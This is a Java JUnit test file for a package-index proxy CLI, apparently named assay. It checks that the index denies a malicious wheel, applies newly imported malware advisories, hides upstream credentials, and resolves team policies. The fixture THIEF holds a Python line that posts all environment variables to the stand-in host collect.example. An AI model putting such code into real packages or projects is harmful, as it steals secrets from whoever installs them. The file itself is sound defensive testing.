package dev.assay.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.cli.LoopbackIndex;
import dev.assay.cli.Run;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/// `serve` and `why` together, each as somebody types it.
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class ServeCommandTest {
  private static final String THIEF =
      """
      import os, urllib.request
      urllib.request.urlopen("https://collect.example/in", str(dict(os.environ)).encode())
      """;

  @TempDir private Path home;
  private LoopbackIndex upstream;
  private ServedIndex served;

  @BeforeEach
  void publish() throws Exception {
    upstream = new LoopbackIndex();
    upstream.publish("acme", "acme-1.0-py3-none-any.whl", wheel("1.0", "x = 1\n"));
    upstream.publish("acme", "acme-1.1-py3-none-any.whl", wheel("1.1", THIEF));
    Files.writeString(home.resolve("young.toml"), "[index]\nminimum-age = 0\n");
  }

  private static byte[] wheel(String version, String module) throws IOException {
    String info = "acme-" + version + ".dist-info/";
    return LoopbackIndex.zip(
        Map.of(
            "acme/__init__.py",
            module,
            info + "METADATA",
            "Metadata-Version: 2.1\nName: acme\nVersion: " + version + "\n",
            info + "WHEEL",
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"));
  }

  @AfterEach
  void stop() throws Exception {
    if (served != null) {
      served.close();
    }
    upstream.close();
  }

  @Test
  void anIndexServesAndSaysWhyItDoesNot() throws Exception {
    String index = serve("--policy", "young.toml");
    assertThat(served.said())
        .contains("the first admin token is in", "in front of `127.0.0.1`")
        .doesNotContain("assay_");
    assertThat(Files.readString(home.resolve("data/admin-token"))).startsWith("assay_");

    Run before = why(index, "acme==1.1");
    assertThat(before.out()).contains("offered, judged when it is asked for");
    assertThat(before.code()).isZero();

    String thief = index.replace("/simple/", "/files/acme/acme-1.1-py3-none-any.whl");
    assertThat(ask(thief)).isEqualTo(403);
    assertThat(ask(thief.replace("1.1", "1.0"))).isEqualTo(200);
    Run denied = why(index, "Acme==1.1");
    assertThat(denied.code()).isEqualTo(1);
    assertThat(denied.out())
        .contains("acme 1.1: 1 of 1 files are not offered", "denied", "hint: ", "acme/__init__.py");
    assertThat(why(index, "acme==1.1", "--format", "json").out())
        .startsWith("{\"schema\":\"assay/why/1\"");
    Run nobody = why(index.replace("/simple/", ""), "nobody");
    assertThat(nobody.code()).isEqualTo(3);
    assertThat(nobody.out()).contains("neither this index nor any that it stands in front of");
  }

  @Test
  void newerAdvisoriesHoldWhileItServes() throws Exception {
    String index = serve("--policy", "young.toml");
    String file = index.replace("/simple/", "/files/acme/acme-1.0-py3-none-any.whl");
    assertThat(ask(file)).isEqualTo(200);
    String record =
        """
        {"id": "MAL-2099-1", "published": "2026-07-20T00:00:00Z",
         "affected": [{"package": {"ecosystem": "PyPI", "name": "acme"}, "versions": ["1.0"]}]}
        """;
    Files.write(home.resolve("all.zip"), LoopbackIndex.zip(Map.of("MAL-2099-1.json", record)));
    Run imported = Run.in(home, home, "db", "import", "all.zip");
    assertThat(imported.code()).as(imported.err()).isZero();
    while (ask(file) == 200) {
      Thread.sleep(500);
    }
    assertThat(ask(file)).isEqualTo(403);
    assertThat(why(index, "acme==1.0").out()).contains("known-malware");
    assertThat(served.said()).contains("advisory data of 2026-07-20 from now on");
  }

  @Test
  void credentialsOfAnUpstreamAreNeverShown() throws Exception {
    String upstreams = "http://reader:hunter2@127.0.0.1:1/simple,http://a_b:hunter2@c_d.example/x";
    served = new ServedIndex(home, Map.of("ASSAY_INDEX_UPSTREAM", upstreams));
    String acme = served.address() + "acme/";
    assertThat(ask(acme)).isEqualTo(502);
    assertThat(served.said()).contains("in front of `127.0.0.1`").doesNotContain("hunter2");
  }

  @Test
  void whyAnswersByThePolicyOfATeamOrOfWhoeverIsLoggedIn() throws Exception {
    Files.writeString(home.resolve("teams.toml"), "[team.research.index]\ndeny = [\"acme\"]\n");
    String index = serve("--policy", "teams.toml");
    assertThat(why(index, "acme==1.0").out()).doesNotContain("denied-name", "by the policy of");
    assertThat(why(index, "acme==1.0", "--team", "research").out())
        .contains("by the policy of the team `research`", "denied-name");
    assertThat(why(index, "acme", "--team", "nobody").err()).contains("it knows no team `nobody`");
    String token = teamToken(index);
    Run login = Run.in(home, home, Map.of("ASSAY_TOKEN", token), "login", index);
    assertThat(login.code()).as(login.err()).isZero();
    Run asked = why(index, "acme==1.0");
    assertThat(asked.out()).contains("by the policy of the team `research`", "denied-name");
    assertThat(asked.out() + asked.err()).doesNotContain(token, "assay_");
    assertThat(why(index, "acme==1.0", "--team", "").out()).doesNotContain("denied-name");
  }

  /// The secret of a token of the team `research`.
  private String teamToken(String index) throws Exception {
    String admin = Files.readString(home.resolve("data/admin-token")).strip();
    var _ = post(index, admin, "/api/teams", "{\"team\":\"research\"}");
    String json = "{\"owner\":\"team:research\",\"label\":\"ci\",\"scopes\":[\"read\"]}";
    return post(index, admin, "/api/tokens", json)
        .replaceFirst(".*\"(assay_[^\"]+)\".*", "$1")
        .strip();
  }

  private static String post(String index, String token, String path, String json)
      throws IOException, InterruptedException {
    try (HttpClient http = HttpClient.newHttpClient()) {
      HttpRequest request =
          HttpRequest.newBuilder(URI.create(index).resolve(path))
              .header("Authorization", "Bearer " + token)
              .header("Content-Type", "application/json")
              .POST(HttpRequest.BodyPublishers.ofString(json))
              .build();
      return http.send(request, BodyHandlers.ofString()).body();
    }
  }

  @Test
  void aMistakeInThePolicyOfATeamIsNamedWithFileAndLine() throws IOException {
    Files.writeString(home.resolve("bad.toml"), "[team.research]\ninternal = []\n");
    Run run = Run.in(home, home, "serve", "--no-upstream", "--policy", "bad.toml");
    assertThat(run.code()).isEqualTo(2);
    assertThat(run.err()).contains("bad.toml:2: `internal` is not a key of the policy of a team");
  }

  @Test
  void whatCannotBeAskedIsSaid() {
    Run run = Run.in(home, home, "why", "acme", "--index", "http://127.0.0.1:1/simple/");
    assertThat(run.code()).isEqualTo(3);
    assertThat(run.err()).contains("gave no answer", "hint: ");
    assertThat(Run.in(home, home, "why", "-").code()).isEqualTo(2);
  }

  @Test
  void settingsThatMakeNoSenseAreWrongUse() {
    assertThat(Run.in(home, home, "serve", "--anonymous", "maybe", "--no-upstream").code())
        .isEqualTo(2);
    assertThat(Run.in(home, home, "serve", "--no-upstream", "--oidc", "absent.toml").err())
        .contains("`absent.toml`: it cannot be read");
    Run port = Run.in(home, home, Map.of("ASSAY_INDEX_PORT", "x"), "serve", "--no-upstream");
    assertThat(port.code()).isEqualTo(2);
    assertThat(port.err()).contains("--port");
  }

  private Run why(String index, String... more) {
    String[] arguments = new String[more.length + 3];
    arguments[0] = "why";
    arguments[1] = "--index";
    arguments[2] = index;
    System.arraycopy(more, 0, arguments, 3, more.length);
    return Run.in(home, home, arguments);
  }

  private static int ask(String address) throws IOException, InterruptedException {
    try (HttpClient http = HttpClient.newHttpClient()) {
      HttpRequest request = HttpRequest.newBuilder(URI.create(address)).build();
      return http.send(request, BodyHandlers.discarding()).statusCode();
    }
  }

  private String serve(String... more) throws Exception {
    served = new ServedIndex(home, upstream.environment(), more);
    return served.address();
  }
}
